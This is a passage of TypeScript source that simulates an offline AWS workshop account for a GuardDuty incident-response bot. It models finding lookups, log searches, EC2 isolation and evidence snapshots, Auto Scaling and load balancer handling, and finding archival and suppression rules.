    const copies = [...this.guardDutyFindings.values()].map(
      (finding): ModelHubFinding => ({
        finding: {
          id: finding.arn,
          productName: 'GuardDuty',
          title: finding.title,
          severityLabel: severityLabel(finding.severity),
          workflowStatus: 'NEW',
          recordState: finding.archived ? 'ARCHIVED' : 'ACTIVE',
          updatedAt: finding.updatedAt,
          types: [`TTPs/${finding.type.replace('/', '-')}`],
        },
        productArn: PRODUCT_ARNS.GuardDuty,
        resourceIds: [
          ...(finding.instanceId === undefined
            ? []
            : [`arn:aws:ec2:us-west-2:123456789012:instance/${finding.instanceId}`]),
          ...(finding.accessKeyId === undefined
            ? []
            : [`AWS::IAM::AccessKey:${finding.accessKeyId}`]),
        ],
        ...(finding.direction === 'OUTBOUND'
          ? { destinationIp: finding.remoteIps.at(-1) }
          : finding.remoteIps.length > 0
            ? { sourceIp: finding.remoteIps.at(-1) }
            : {}),
        notes: [],
      })
    );
    return [...this.hubFindings, ...copies];
  }

  async #hubFindingsFor(
    query: SecurityHubQuery,
    target: InvestigationTarget
  ): Promise<{ findings: HubFinding[]; truncated: boolean }> {
    this.call('securityhub:GetFindings', query.resourceIds[0]?.value ?? query.ip ?? '');
    if (!this.isHere(target)) return { findings: [], truncated: false };
    const matched: HubFinding[] = [];
    for (const stored of this.#allHubFindings()) {
      const matchedBy: HubFinding['matchedBy'] = [];
      const byResource = query.resourceIds.some((filter) =>
        stored.resourceIds.some((id) =>
          filter.comparison === 'EQUALS' ? id === filter.value : id.includes(filter.value)
        )
      );
      if (byResource) matchedBy.push('resource');
      if (query.ip !== undefined && stored.sourceIp === query.ip) matchedBy.push('sourceIp');
      if (query.ip !== undefined && stored.destinationIp === query.ip)
        matchedBy.push('destinationIp');
      if (matchedBy.length > 0) matched.push({ ...structuredClone(stored.finding), matchedBy });
    }
    return {
      findings: matched.slice(0, query.maxFindings),
      truncated: matched.length > query.maxFindings,
    };
  }

  /** FilterLogEvents, 100 events a page, within the query's budget. */
  async #searchLogs(query: LogQuery, target: InvestigationTarget): Promise<LogQueryResult> {
    this.call('logs:FilterLogEvents', query.logGroupName);
    const events = this.isHere(target) ? this.logGroups.get(query.logGroupName) : undefined;
    if (!events) {
      throw new NotFoundError(
        'logs',
        `Log group ${query.logGroupName} does not exist in ${target.accountId} ${target.region}.`
      );
    }
    const pattern = query.filterPattern?.trim() ?? '';
    if (pattern.startsWith('[') || pattern.startsWith('{')) {
      throw new InvalidRequestError(
        'logs',
        'The offline workshop account only understands term patterns ("Accepted password", ?"a" ?"b").'
      );
    }
    const matched = events.filter(
      (event) =>
        event.timestamp >= query.start.getTime() &&
        event.timestamp <= query.end.getTime() &&
        (query.logStreamNamePrefix === undefined ||
          (event.logStreamName ?? '').startsWith(query.logStreamNamePrefix)) &&
        matchesTermPattern(query.filterPattern, event.message)
    );
    const pageSize = 100;
    const pages = Math.max(1, Math.ceil(matched.length / pageSize));
    const maxByPages = query.budget.maxPages * pageSize;
    const kept = matched.slice(0, Math.min(query.budget.maxEvents, maxByPages));
    const truncated =
      matched.length > query.budget.maxEvents
        ? 'maxEvents'
        : matched.length > maxByPages
          ? 'maxPages'
          : undefined;
    return {
      events: kept.map((event) => ({ ...event })),
      pages: Math.min(pages, query.budget.maxPages),
      ...(truncated === undefined ? {} : { truncated }),
      throttleRetries: 0,
    };
  }
}

// ---------------------------------------------------------------------------------------------
// EC2, Auto Scaling and Elastic Load Balancing (the isolation port)
// ---------------------------------------------------------------------------------------------

const notFound = (call: string, awsCode: string, message: string, calls: AwsCallRecord[]) =>
  new ContainmentError({ code: 'NOT_FOUND', call, awsCode, message, calls });

const invalid = (call: string, awsCode: string, message: string, calls: AwsCallRecord[]) =>
  new ContainmentError({ code: 'INVALID_STATE', call, awsCode, message, calls });

/** {@link Ec2Containment} on the workshop account, for one target (account and Region). */
class WorkshopEc2 implements Ec2Containment {
  readonly roleArn = undefined;
  readonly #account: WorkshopAccount;
  readonly #target: ContainmentTarget;

  public constructor(account: WorkshopAccount, target: ContainmentTarget) {
    this.#account = account;
    this.#target = target;
  }

  public async describeInstance(instanceId: string): Promise<Traced<InstanceView | undefined>> {
    const calls = [this.#call('ec2:DescribeInstances', instanceId)];
    const instance = this.#account.instances.get(instanceId);
    if (!instance) return { value: undefined, calls };
    return {
      value: {
        instanceId,
        state: instance.state,
        enis: [...instance.enis]
          .sort((a, b) => a.deviceIndex - b.deviceIndex)
          .map((eni) => ({
            id: eni.id,
            vpcId: this.#account.vpcOf(eni.subnetId),
            subnetId: eni.subnetId,
            groups: [...eni.groups],
            deviceIndex: eni.deviceIndex,
            privateIps: [eni.privateIp],
          })),
        volumes: instance.volumes.map((volume) => ({ ...volume })),
        tags: { ...instance.tags },
      },
      calls,
    };
  }

  public async describeProtections(instanceId: string): Promise<Traced<InstanceProtections>> {
    const calls = [
      this.#call('ec2:DescribeInstanceAttribute', instanceId),
      this.#call('ec2:DescribeInstanceAttribute', instanceId),
    ];
    return { value: { ...this.#instance(instanceId, calls).protections }, calls };
  }

  public async describeAutoScaling(
    instanceId: string
  ): Promise<Traced<AutoScalingMembership | undefined>> {
    const calls = [this.#call('autoscaling:DescribeAutoScalingInstances', instanceId)];
    return { value: this.#account.autoScalingOf(instanceId), calls };
  }

  public async findLoadBalancers(input: {
    instanceId: string;
    vpcIds: string[];
    privateIps: string[];
    maxTargetGroups: number;
  }): Promise<Traced<LoadBalancerMemberships>> {
    const calls = [this.#call('elasticloadbalancing:DescribeTargetGroups', input.instanceId)];
    const ids = new Set([input.instanceId, ...input.privateIps]);
    const inVpcs = this.#account.targetGroups.filter(
      (group) => input.vpcIds.length === 0 || input.vpcIds.includes(group.vpcId)
    );
    const scanned = inVpcs.slice(0, input.maxTargetGroups);
    const targetGroups: TargetGroupMembership[] = [];
    for (const group of scanned) {
      calls.push(this.#call('elasticloadbalancing:DescribeTargetHealth', group.arn));
      for (const target of group.targets.filter((candidate) => ids.has(candidate.id))) {
        targetGroups.push({
          targetGroupArn: group.arn,
          targetGroupName: group.name,
          targetId: target.id,
          port: target.port,
        });
      }
    }
    calls.push(this.#call('elasticloadbalancing:DescribeLoadBalancers', input.instanceId));
    return {
      value: { targetGroups, classic: [], truncated: inVpcs.length > scanned.length },
      calls,
    };
  }

  public async findGroups(
    vpcId: string
  ): Promise<Traced<{ isolation?: string; untrack?: string }>> {
    const calls = [this.#call('ec2:DescribeSecurityGroups', vpcId)];
    const isolation = this.#groupNamed(vpcId, isolationGroupName(vpcId))?.id;
    const untrack = this.#groupNamed(vpcId, untrackGroupName(vpcId))?.id;
    return {
      value: {
        ...(isolation === undefined ? {} : { isolation }),
        ...(untrack === undefined ? {} : { untrack }),
      },
      calls,
    };
  }

  public async findEvidenceSnapshots(input: {
    findingId: string;
    instanceId: string;
    generation: number;
  }): Promise<Traced<SnapshotRef[]>> {
    const calls = [this.#call('ec2:DescribeSnapshots', input.instanceId)];
    const value = this.#account.snapshots
      .filter(
        (snapshot) =>
          snapshot.tags[SNAPSHOT_TAGS.finding] === input.findingId &&
          snapshot.tags[SNAPSHOT_TAGS.instance] === input.instanceId &&
          snapshot.tags[SNAPSHOT_TAGS.generation] === String(input.generation)
      )
      .map((snapshot) => {
        const device = snapshot.tags[SNAPSHOT_TAGS.device];
        return {
          volumeId: snapshot.volumeId,
          snapshotId: snapshot.snapshotId,
          ...(device === undefined ? {} : { device }),
        };
      });
    return { value, calls };
  }

  public async createSnapshot(input: {
    volumeId: string;
    device?: string;
    instanceId: string;
    findingId: string;
    generation: number;
  }): Promise<Traced<SnapshotRef>> {
    const calls = [this.#call('ec2:CreateSnapshot', input.volumeId)];
    const exists = [...this.#account.instances.values()].some((instance) =>
      instance.volumes.some((volume) => volume.volumeId === input.volumeId)
    );
    if (!exists) {
      throw notFound(
        'ec2:CreateSnapshot',
        'InvalidVolume.NotFound',
        `The volume '${input.volumeId}' does not exist.`,
        calls
      );
    }
    const snapshotId = this.#account.newId('snap');
    this.#account.snapshots.push({
      snapshotId,
      volumeId: input.volumeId,
      state: 'pending',
      description:
        `GuardDuty finding ${input.findingId}: evidence of ${input.instanceId} ${input.device ?? ''}`.trim(),
      tags: {
        Name: `guardduty-evidence-${input.instanceId}`,
        [SNAPSHOT_TAGS.finding]: input.findingId,
        [SNAPSHOT_TAGS.instance]: input.instanceId,
        [SNAPSHOT_TAGS.generation]: String(input.generation),
        ...(input.device === undefined ? {} : { [SNAPSHOT_TAGS.device]: input.device }),
      },
    });
    return {
      value: {
        volumeId: input.volumeId,
        snapshotId,
        ...(input.device === undefined ? {} : { device: input.device }),
      },
      calls,
    };
  }

  public async setProtections(
    instanceId: string,
    protections: Partial<InstanceProtections>
  ): Promise<Traced<void>> {
    const calls = Object.keys(protections).map(() =>
      this.#call('ec2:ModifyInstanceAttribute', instanceId)
    );
    Object.assign(this.#instance(instanceId, calls).protections, protections);
    return { value: undefined, calls };
  }

  public async tagInstance(
    instanceId: string,
    tags: Record<string, string>
  ): Promise<Traced<void>> {
    const calls = [this.#call('ec2:CreateTags', instanceId)];
    Object.assign(this.#instance(instanceId, calls).tags, tags);
    return { value: undefined, calls };
  }

  public async untagInstance(
    instanceId: string,
    tags: Record<string, string>
  ): Promise<Traced<void>> {
    const calls = [this.#call('ec2:DeleteTags', instanceId)];
    const current = this.#instance(instanceId, calls).tags;
    for (const [key, value] of Object.entries(tags)) {
      if (current[key] === value) delete current[key];
    }
    return { value: undefined, calls };
  }

  public async ensureIsolationGroup(
    vpcId: string
  ): Promise<Traced<{ groupId: string; created: boolean }>> {
    const { group, created, calls } = this.#findOrCreate(vpcId, 'isolation');
    // A new group comes with an allow-all egress rule: revoke it (and the IPv6 one, if any).
    if (created || group.egress.length > 0) {
      calls.push(this.#call('ec2:RevokeSecurityGroupEgress', group.id));
      group.egress = [];
    }
    if (group.ingress.length > 0) {
      calls.push(this.#call('ec2:RevokeSecurityGroupIngress', group.id));
      group.ingress = [];
    }
    return { value: { groupId: group.id, created }, calls };
  }

  public async ensureUntrackGroup(
    vpcId: string
  ): Promise<Traced<{ groupId: string; created: boolean }>> {
    const { group, created, calls } = this.#findOrCreate(vpcId, 'untrack');
    for (const cidr of ['0.0.0.0/0', '::/0']) {
      const rule = `all traffic ${cidr}`;
      if (!group.ingress.includes(rule)) {
        calls.push(this.#call('ec2:AuthorizeSecurityGroupIngress', group.id));
        group.ingress.push(rule);
      }
      if (!group.egress.includes(rule)) {
        calls.push(this.#call('ec2:AuthorizeSecurityGroupEgress', group.id));
        group.egress.push(rule);
      }
    }
    return { value: { groupId: group.id, created }, calls };
  }

  public async setEniGroups(eniId: string, groups: string[]): Promise<Traced<void>> {
    const calls = [this.#call('ec2:ModifyNetworkInterfaceAttribute', eniId)];
    const found = this.#account.findEni(eniId);
    if (!found) {
      throw notFound(
        'ec2:ModifyNetworkInterfaceAttribute',
        'InvalidNetworkInterfaceID.NotFound',
        `The networkInterface ID '${eniId}' does not exist`,
        calls
      );
    }
    const vpcId = this.#account.vpcOf(found.eni.subnetId);
    const foreign = groups.find((id) => this.#account.groups.get(id)?.vpcId !== vpcId);
    if (foreign !== undefined || groups.length === 0 || groups.length > 5) {
      throw notFound(
        'ec2:ModifyNetworkInterfaceAttribute',
        'InvalidGroup.NotFound',
        `The security group '${foreign ?? '(none)'}' does not exist in VPC '${vpcId}'`,
        calls
      );
    }
    found.eni.groups = [...groups];
    return { value: undefined, calls };
  }

  public async enterStandby(groupName: string, instanceId: string): Promise<Traced<void>> {
    const calls = [this.#call('autoscaling:EnterStandby', groupName)];
    const group = this.#member(groupName, instanceId, 'autoscaling:EnterStandby', calls);
    if (group.members.get(instanceId) !== 'InService' || group.desired - 1 < group.min) {
      throw invalid(
        'autoscaling:EnterStandby',
        'ValidationError',
        `The instance ${instanceId} is not in InService or ${groupName} would drop below its minimum.`,
        calls
      );
    }
    group.members.set(instanceId, 'Standby');
    group.desired -= 1;
    return { value: undefined, calls };
  }

  public async exitStandby(groupName: string, instanceId: string): Promise<Traced<void>> {
    const calls = [this.#call('autoscaling:ExitStandby', groupName)];
    const group = this.#member(groupName, instanceId, 'autoscaling:ExitStandby', calls);
    if (group.members.get(instanceId) !== 'Standby' || group.desired + 1 > group.max) {
      throw invalid(
        'autoscaling:ExitStandby',
        'ValidationError',
        `The instance ${instanceId} is not in Standby.`,
        calls
      );
    }
    group.members.set(instanceId, 'InService');
    group.desired += 1;
    return { value: undefined, calls };
  }

  public async detachFromAutoScaling(groupName: string, instanceId: string): Promise<Traced<void>> {
    const calls = [this.#call('autoscaling:DetachInstances', groupName)];
    const group = this.#member(groupName, instanceId, 'autoscaling:DetachInstances', calls);
    group.members.delete(instanceId);
    group.desired = Math.max(group.min, group.desired - 1);
    delete this.#instance(instanceId, calls).tags['aws:autoscaling:groupName'];
    return { value: undefined, calls };
  }

  public async attachToAutoScaling(groupName: string, instanceId: string): Promise<Traced<void>> {
    const calls = [this.#call('autoscaling:AttachInstances', groupName)];
    const group = this.#account.autoScalingGroups.get(groupName);
    if (!group) {
      throw invalid(
        'autoscaling:AttachInstances',
        'ValidationError',
        `AutoScalingGroup name not found: ${groupName}`,
        calls
      );
    }
    group.members.set(instanceId, 'InService');
    group.desired += 1;
    this.#instance(instanceId, calls).tags['aws:autoscaling:groupName'] = groupName;
    return { value: undefined, calls };
  }

  public async deregisterTarget(membership: TargetGroupMembership): Promise<Traced<void>> {
    const calls = [this.#call('elasticloadbalancing:DeregisterTargets', membership.targetGroupArn)];
    const group = this.#targetGroup(membership.targetGroupArn, calls);
    group.targets = group.targets.filter((target) => target.id !== membership.targetId);
    return { value: undefined, calls };
  }

  public async registerTarget(membership: TargetGroupMembership): Promise<Traced<void>> {
    const calls = [this.#call('elasticloadbalancing:RegisterTargets', membership.targetGroupArn)];
    const group = this.#targetGroup(membership.targetGroupArn, calls);
    if (!group.targets.some((target) => target.id === membership.targetId)) {
      group.targets.push({ id: membership.targetId, port: membership.port ?? group.port });
    }
    return { value: undefined, calls };
  }

  public async deregisterFromClassic(name: string): Promise<Traced<void>> {
    const call = 'elasticloadbalancing:DeregisterInstancesFromLoadBalancer';
    const calls = [this.#call(call, name)];
    throw notFound(
      call,
      'LoadBalancerNotFound',
      `There is no load balancer named '${name}'`,
      calls
    );
  }

  public async registerWithClassic(name: string): Promise<Traced<void>> {
    const call = 'elasticloadbalancing:RegisterInstancesWithLoadBalancer';
    const calls = [this.#call(call, name)];
    throw notFound(
      call,
      'LoadBalancerNotFound',
      `There is no load balancer named '${name}'`,
      calls
    );
  }

  public async checkPermission(request: DryRunRequest): Promise<Traced<'permitted' | 'denied'>> {
    const resource =
      'instanceId' in request
        ? request.instanceId
        : 'eniId' in request
          ? request.eniId
          : 'groupId' in request
            ? request.groupId
            : 'vpcId' in request
              ? request.vpcId
              : request.resourceId;
    return {
      value: 'permitted',
      calls: [this.#call(`ec2:${request.op}`, resource, 'dry-run-permitted')],
    };
  }

  // --- plumbing -----------------------------------------------------------------------------

  /** Records the call, or refuses it when the target is another account or Region. */
  #call(call: string, resource: string, result = 'ok'): AwsCallRecord {
    if (!this.#account.isHere(this.#target)) {
      throw new ContainmentError({
        code: 'ACCESS_DENIED',
        call,
        awsCode: 'UnauthorizedOperation',
        message: `the offline workshop only models account ${this.#account.accountId} in ${this.#account.region}`,
      });
    }
    return this.#account.call(call, resource, result);
  }

  #instance(instanceId: string, calls: AwsCallRecord[]): ModelInstance {
    const instance = this.#account.instances.get(instanceId);
    if (!instance) {
      throw notFound(
        calls[0]?.call ?? 'ec2:DescribeInstances',
        'InvalidInstanceID.NotFound',
        `The instance ID '${instanceId}' does not exist`,
        calls
      );
    }
    return instance;
  }

  #groupNamed(vpcId: string, name: string): ModelGroup | undefined {
    return [...this.#account.groups.values()].find(
      (group) => group.vpcId === vpcId && group.name === name
    );
  }

  #findOrCreate(
    vpcId: string,
    purpose: 'isolation' | 'untrack'
  ): { group: ModelGroup; created: boolean; calls: AwsCallRecord[] } {
    const calls = [this.#call('ec2:DescribeSecurityGroups', vpcId)];
    const name = purpose === 'isolation' ? isolationGroupName(vpcId) : untrackGroupName(vpcId);
    const existing = this.#groupNamed(vpcId, name);
    if (existing) return { group: existing, created: false, calls };
    calls.push(this.#call('ec2:CreateSecurityGroup', vpcId));
    const group: ModelGroup = {
      id: this.#account.newId('sg'),
      name,
      vpcId,
      description:
        purpose === 'isolation'
          ? 'GuardDuty responder: isolation, no traffic in or out'
          : 'GuardDuty responder: temporary allow-all so tracked flows become untracked',
      ingress: [],
      egress: ['all traffic 0.0.0.0/0'],
      tags: {
        Name: name,
        [purpose === 'isolation' ? ISOLATION_GROUP_TAG : UNTRACK_GROUP_TAG]: 'true',
      },
    };
    this.#account.groups.set(group.id, group);
    return { group, created: true, calls };
  }

  #member(
    groupName: string,
    instanceId: string,
    call: string,
    calls: AwsCallRecord[]
  ): ModelAutoScalingGroup {
    const group = this.#account.autoScalingGroups.get(groupName);
    if (!group?.members.has(instanceId)) {
      throw invalid(
        call,
        'ValidationError',
        `The instance ${instanceId} is not part of Auto Scaling group ${groupName}.`,
        calls
      );
    }
    return group;
  }

  #targetGroup(arn: string, calls: AwsCallRecord[]): ModelTargetGroup {
    const group = this.#account.targetGroups.find((candidate) => candidate.arn === arn);
    if (!group) {
      throw notFound(
        calls[0]?.call ?? 'elasticloadbalancing:DescribeTargetGroups',
        'TargetGroupNotFound',
        `Target groups '${arn}' not found`,
        calls
      );
    }
    return group;
  }
}

/** GuardDuty's view of a finding, for the stale-button guard. */
class WorkshopFindingStatus implements FindingStatusReader {
  readonly #account: WorkshopAccount;
  readonly #target: ContainmentTarget;

  public constructor(account: WorkshopAccount, target: ContainmentTarget) {
    this.#account = account;
    this.#target = target;
  }

  public async findingStatus(input: {
    detectorId: string;
    findingId: string;
  }): Promise<Traced<FindingLiveStatus>> {
    const call = this.#account.call('guardduty:GetFindings', input.findingId);
    const finding =
      this.#account.isHere(this.#target) && input.detectorId === WORKSHOP.detectorId
        ? this.#account.guardDutyFindings.get(input.findingId)
        : undefined;
    const value: FindingLiveStatus =
      finding === undefined ? 'not-found' : finding.archived ? 'archived' : 'open';
    return { value, calls: [call] };
  }
}

// ---------------------------------------------------------------------------------------------
// GuardDuty and Security Hub (the dismissal port)
// ---------------------------------------------------------------------------------------------

const dismissalError = (
  code: 'DISMISS_NOT_FOUND' | 'DISMISS_INVALID_REQUEST' | 'DISMISS_UNPROCESSED',
  operation: string,
  message: string,
  awsError: string
): DismissalError =>
  new DismissalError({
    code,
    service: operation === 'BatchUpdateFindings' ? 'securityhub' : 'guardduty',
    operation,
    message,
    awsError,
    retryable: false,
  });

/** GuardDuty archive / feedback / filters and Security Hub workflow, on the workshop account. */
class WorkshopDismissal implements GuardDutyDismissal, SecurityHubWorkflow {
  readonly #account: WorkshopAccount;

  public constructor(account: WorkshopAccount) {
    this.#account = account;
  }

  public async detectorId(target: AccountTarget): Promise<string> {
    this.#account.call('guardduty:ListDetectors', target.region);
    if (!this.#account.isHere(target)) {
      throw dismissalError(
        'DISMISS_NOT_FOUND',
        'ListDetectors',
        `No GuardDuty detector in ${target.accountId} ${target.region}.`,
        'BadRequestException'
      );
    }
    return WORKSHOP.detectorId;
  }

  public async archive(target: AccountTarget, detectorId: string, ids: string[]) {
    return this.#batch('ArchiveFindings', target, detectorId, ids, (finding) => {
      finding.archived = true;
    });
  }

  public async unarchive(target: AccountTarget, detectorId: string, ids: string[]) {
    return this.#batch('UnarchiveFindings', target, detectorId, ids, (finding) => {
      finding.archived = false;
    });
  }

  public async feedback(
    target: AccountTarget,
    detectorId: string,
    ids: string[],
    feedback: FindingFeedback,
    comments?: string
  ) {
    return this.#batch('UpdateFindingsFeedback', target, detectorId, ids, (finding) => {
      finding.feedback = { feedback, ...(comments === undefined ? {} : { comments }) };
    });
  }

  public async createSuppressionRule(
    target: AccountTarget,
    detectorId: string,
    rule: SuppressionRuleInput
  ): Promise<void> {
    this.#account.call('guardduty:CreateFilter', rule.name);
    this.#detector(target, detectorId, 'CreateFilter');
    const problem = suppressionCriteriaProblem(rule.criteria);
    if (problem !== undefined || this.#account.filters.has(rule.name)) {
      throw dismissalError(
        'DISMISS_INVALID_REQUEST',
        'CreateFilter',
        problem ?? `A filter named ${rule.name} already exists.`,
        'BadRequestException'
      );
    }
    this.#account.filters.set(rule.name, {
      detectorId,
      name: rule.name,
      description: rule.description,
      action: 'ARCHIVE',
      ...(rule.rank === undefined ? {} : { rank: rule.rank }),
      criteria: rule.criteria,
      rawCriteria: JSON.stringify(rule.criteria),
      tags: { ...rule.tags },
    });
  }

  public async getSuppressionRule(
    target: AccountTarget,
    detectorId: string,
    name: string
  ): Promise<SuppressionRule | undefined> {
    this.#account.call('guardduty:GetFilter', name);
    this.#detector(target, detectorId, 'GetFilter');
    const rule = this.#account.filters.get(name);
    if (rule === undefined) return undefined;
    const { detectorId: _detector, ...withoutDetector } = rule;
    return structuredClone(withoutDetector);
  }

  public async deleteSuppressionRule(
    target: AccountTarget,
    detectorId: string,
    name: string
  ): Promise<'deleted' | 'absent'> {
    this.#account.call('guardduty:DeleteFilter', name);
    this.#detector(target, detectorId, 'DeleteFilter');
    if (
      !isBotSuppressionRule({ name, description: this.#account.filters.get(name)?.description })
    ) {
      if (this.#account.filters.has(name)) {
        throw dismissalError(
          'DISMISS_INVALID_REQUEST',
          'DeleteFilter',
          `${name} was not created by the bot.`,
          'BadRequestException'
        );
      }
    }
    return this.#account.filters.delete(name) ? 'deleted' : 'absent';
  }

  public async listSuppressionRules(
    target: AccountTarget,
    detectorId: string
  ): Promise<SuppressionRule[]> {
    this.#account.call('guardduty:ListFilters', detectorId);
    this.#detector(target, detectorId, 'ListFilters');
    return [...this.#account.filters.values()]
      .filter((rule) => rule.detectorId === detectorId && isBotSuppressionRule(rule))
      .map(({ detectorId: _detector, ...rule }) => structuredClone(rule))
      .sort((a, b) => a.name.localeCompare(b.name));
  }

  public async setWorkflow(
    target: AccountTarget,
    findings: SecurityHubFindingRef[],
    status: WorkflowStatus,
    note: string
  ): Promise<BatchResult> {
    this.#account.call('securityhub:BatchUpdateFindings', findings[0]?.id ?? '');
    const result: BatchResult = { succeeded: [], failed: [] };
    for (const ref of findings) {
      const stored = this.#account.isHere(target)
        ? this.#account.hubFindings.find(
            (candidate) =>
              candidate.finding.id === ref.id && candidate.productArn === ref.productArn
          )
        : undefined;
      if (!stored) {
        result.failed.push({
          ids: [ref.id],
          error: dismissalError(
            'DISMISS_UNPROCESSED',
            'BatchUpdateFindings',
            `Security Hub has no finding ${ref.id}.`,
            'FindingNotFound'
          ),
        });
        continue;
      }
      stored.finding.workflowStatus = status;
      stored.notes.push(note);
      result.succeeded.push(ref.id);
    }
    return result;
  }

  #detector(target: AccountTarget, detectorId: string, operation: string): void {
    if (!this.#account.isHere(target) || detectorId !== WORKSHOP.detectorId) {
      throw dismissalError(
        'DISMISS_NOT_FOUND',
        operation,
        `No detector ${detectorId} in ${target.accountId} ${target.region}.`,
        'BadRequestException'
      );
    }
  }

  /** One call per chunk of ≤ 50 ids, as GuardDuty takes them; unknown ids fail on their own. */
  #batch(
    operation: string,
    target: AccountTarget,
    detectorId: string,
    ids: string[],
    apply: (finding: ModelGuardDutyFinding) => void
  ): BatchResult {
    const result: BatchResult = { succeeded: [], failed: [] };
    for (let start = 0; start < ids.length; start += GUARDDUTY_BATCH_LIMIT) {
      const chunk = ids.slice(start, start + GUARDDUTY_BATCH_LIMIT);
      this.#account.call(`guardduty:${operation}`, chunk.join(','));
      try {
        this.#detector(target, detectorId, operation);
      } catch (error) {
        result.failed.push({ ids: chunk, error: error as DismissalError });
        continue;
      }
      for (const id of chunk) {
        const finding = this.#account.guardDutyFindings.get(id);
        if (finding === undefined) {
          result.failed.push({
            ids: [id],
            error: dismissalError(
              'DISMISS_INVALID_REQUEST',
              operation,
              `GuardDuty has no finding ${id} in detector ${detectorId}.`,
              'BadRequestException'
            ),
          });
        } else {
          apply(finding);
          result.succeeded.push(id);
        }
      }
    }
    return result;
  }
}
